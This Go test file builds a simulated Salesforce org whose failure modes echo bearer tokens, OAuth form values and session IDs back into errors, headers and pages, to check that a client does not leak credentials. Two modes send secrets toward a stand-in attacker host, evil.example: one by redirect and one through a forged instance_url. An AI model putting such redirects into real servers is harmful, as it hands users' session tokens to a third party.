package main

import (
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"salesforce-mcp/salesforce/fakeorg"
)

// A tellingOrg is a simulated org that can be made to fail, and then tells everything
// it was sent: an org may quote a request, and its administrator may be an enemy.
type tellingOrg struct {
	*fakeorg.Org
	url string

	mu      sync.Mutex
	modes   map[string]string // how it answers, by a part of the path: see tellings
	answers []string          // to the next requests of its data, as the cases of testdata/ops spell them
}

func newTellingOrg(t *testing.T, c *canaries, clients ...fakeorg.Client) *tellingOrg {
	o := &tellingOrg{modes: map[string]string{}}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.watch(o.Handler(), o.tell).ServeHTTP(w, r)
	}))
	t.Cleanup(s.Close)
	o.url = s.URL
	var err error
	if o.Org, err = fakeorg.New(fakeorg.Options{BaseURL: s.URL, DailyCalls: 1_000_000, Clients: clients}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = o.Close() })
	return o
}

// mode says how paths that hold a text are answered from now on; "" is as they should.
func (o *tellingOrg) mode(path, mode string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.modes[path] = mode; mode == "" {
		delete(o.modes, path)
	}
}

// next gives the answers to the next requests of data.
func (o *tellingOrg) next(answers ...string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.answers = answers
}

const dataPaths, agentPaths, tokenPath, userinfoPath, revokePath = "/services/", "/einstein/ai-agent/", "/oauth2/token", "/oauth2/userinfo", "/oauth2/revoke"

func (o *tellingOrg) tell(w http.ResponseWriter, r *http.Request, body string) bool {
	o.mu.Lock()
	var mode string
	isData := (strings.HasPrefix(r.URL.Path, dataPaths) || strings.HasPrefix(r.URL.Path, agentPaths)) && !strings.Contains(r.URL.Path, "/oauth2/")
	for path, m := range o.modes {
		if path == dataPaths && isData || path != dataPaths && strings.Contains(r.URL.Path, path) {
			mode = m
		}
	}
	var given string
	if isData && len(o.answers) > 0 {
		given = o.answers[0]
		o.answers = o.answers[min(1, len(o.answers)-1):]
	}
	o.mu.Unlock()
	switch {
	case mode != "":
		tellings[mode](w, said(r, body))
	case given != "":
		head, text, _ := strings.Cut(given, "\n")
		status, mediaType := 200, "application/json;charset=UTF-8"
		_, _ = fmt.Sscan(head, &status, &mediaType)
		w.Header().Set("Content-Type", mediaType)
		w.WriteHeader(status)
		_, _ = io.WriteString(w, text)
	default:
		return false
	}
	return true
}

// said is every secret of a request, as it is and as requests write it.
func said(r *http.Request, body string) string {
	_, token, _ := strings.Cut(r.Header.Get("Authorization"), " ")
	all := []string{token, url.QueryEscape(token)}
	if form, err := url.ParseQuery(body); err == nil && strings.Contains(r.URL.Path, "/oauth2/") {
		for _, name := range slices.Sorted(maps.Keys(form)) {
			all = append(all, form.Get(name), url.QueryEscape(form.Get(name)))
		}
	}
	for _, m := range inXML.FindAllStringSubmatch(body, -1) {
		all = append(all, m[2], url.QueryEscape(m[2]))
	}
	return strings.Join(all, " ")
}

func respond(w http.ResponseWriter, status int, mediaType string, body any) {
	w.Header().Set("Content-Type", mediaType)
	w.Header().Set("Retry-After", "60") // so that nobody waits and tries again
	w.WriteHeader(status)
	if text, isText := body.(string); isText {
		_, _ = io.WriteString(w, text)
		return
	}
	_ = json.NewEncoder(w).Encode(body)
}

type members = map[string]any

// tellings are the ways to fail.
var tellings = map[string]func(w http.ResponseWriter, said string){
	"refused": func(w http.ResponseWriter, said string) {
		respond(w, 400, "application/json", []members{{"errorCode": "FIELD_CUSTOM_VALIDATION_EXCEPTION", "message": "no: " + said, "fields": []string{said}}, {"errorCode": "X", "message": said}})
	},
	"its code": func(w http.ResponseWriter, said string) {
		respond(w, 400, "application/json", []members{{"errorCode": said, "message": said}})
	},
	"session": func(w http.ResponseWriter, said string) {
		respond(w, 401, "application/json", []members{{"errorCode": "INVALID_SESSION_ID", "message": strings.Repeat("-", 4090) + said}})
	},
	"forbidden": func(w http.ResponseWriter, said string) {
		respond(w, 403, "application/json", members{"error": "FORBIDDEN", "error_description": said, "message": said})
	},
	"failed": func(w http.ResponseWriter, said string) {
		respond(w, 500, "application/json", []members{{"errorCode": "UNKNOWN_EXCEPTION", "message": said}})
	},
	"page": func(w http.ResponseWriter, said string) {
		respond(w, 503, "text/html", "<html><title>"+said+"</title><body>"+said+"</body></html>")
	},
	// Where a long text is cut, the cut may go through a secret.
	"text": func(w http.ResponseWriter, said string) {
		respond(w, 404, "text/plain", strings.Repeat("no ", 60)+said)
	},
	"fault": func(w http.ResponseWriter, said string) {
		respond(w, 500, "text/xml", `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><soapenv:Fault><faultcode>sf:INVALID_TYPE</faultcode><faultstring>INVALID_TYPE: `+
			strings.ReplaceAll(said, "&", "&amp;")+`</faultstring></soapenv:Fault></soapenv:Body></soapenv:Envelope>`)
	},
	"headers": func(w http.ResponseWriter, said string) {
		for _, name := range []string{"X-Sfdc-Request-Id", "Sforce-Limit-Info", "Location", "Warning", "Set-Cookie", "Www-Authenticate", "Etag"} {
			w.Header().Set(name, said)
		}
		respond(w, 400, said, []members{{"errorCode": "X", "message": "no"}})
	},
	"redirect": func(w http.ResponseWriter, said string) {
		w.Header().Set("Location", "https://evil.example/?sid="+url.QueryEscape(said))
		respond(w, 302, "text/plain", said)
	},
	"results": func(w http.ResponseWriter, said string) {
		respond(w, 400, "application/json", []members{{"success": true, "id": said}, {"success": false, "isSuccess": false, "errors": []members{{"statusCode": "X", "message": said, "fields": []string{said}}}}})
	},
	"done": func(w http.ResponseWriter, said string) {
		respond(w, 200, "application/json", members{"id": said, "success": true, "totalSize": 1, "done": true, "Name": said, "records": []members{{"Id": "0015g00000AbCdEAAV", "Name": said}},
			"exceptionMessage": said, "compiled": true})
	},
	"done, in XML": func(w http.ResponseWriter, said string) {
		respond(w, 200, "text/xml", `<Envelope><Body><r><result><success>true</success><sessionId>`+strings.ReplaceAll(said, "&", "&amp;")+`</sessionId></result></r></Body></Envelope>`)
	},
	"no JSON": func(w http.ResponseWriter, said string) { respond(w, 200, "application/json", "{"+said) },
	"a file":  func(w http.ResponseWriter, said string) { respond(w, 200, "text/plain", said) },
	"cut":     func(http.ResponseWriter, string) { panic(http.ErrAbortHandler) },
	"slow": func(w http.ResponseWriter, said string) {
		time.Sleep(300 * time.Millisecond)
		respond(w, 200, "text/plain", said)
	},

	// Of the token endpoint.
	"invalid": func(w http.ResponseWriter, said string) {
		respond(w, 400, "application/json", members{"error": "invalid_grant", "error_description": "authentication failure " + said})
	},
	"other error": func(w http.ResponseWriter, said string) {
		respond(w, 400, "application/json", members{"error": said, "error_description": said})
	},
	"busy": func(w http.ResponseWriter, said string) {
		respond(w, 503, "application/json", members{"error": "server_error", "error_description": said})
	},
	"elsewhere": func(w http.ResponseWriter, said string) {
		respond(w, 200, "application/json", members{"access_token": "00D!elsewhere-" + strings.Repeat("x9", 20), "token_type": "Bearer", "instance_url": "https://evil.example/" + said})
	},
	"userinfo": func(w http.ResponseWriter, said string) {
		respond(w, 200, "application/json", members{"access_token": "00D!elsewhere-" + strings.Repeat("x9", 20), "token_type": "Bearer", "instance_url": "https://" + url.QueryEscape(said) + "@acme.my.salesforce.com"})
	},
	"type": func(w http.ResponseWriter, said string) {
		respond(w, 200, "application/json", members{"access_token": "00D!elsewhere-" + strings.Repeat("x9", 20), "token_type": said})
	},
	"no token": func(w http.ResponseWriter, said string) { respond(w, 200, "application/json", members{"id": said}) },
}

// modesOfData and modesOfTokens are those that fit a path.
var (
	modesOfData   = []string{"refused", "its code", "session", "forbidden", "failed", "page", "text", "fault", "headers", "redirect", "results", "done", "done, in XML", "no JSON", "a file", "cut"}
	modesOfTokens = []string{"invalid", "other error", "busy", "elsewhere", "userinfo", "type", "no token", "page", "text", "headers", "redirect", "no JSON", "refused", "cut"}
)
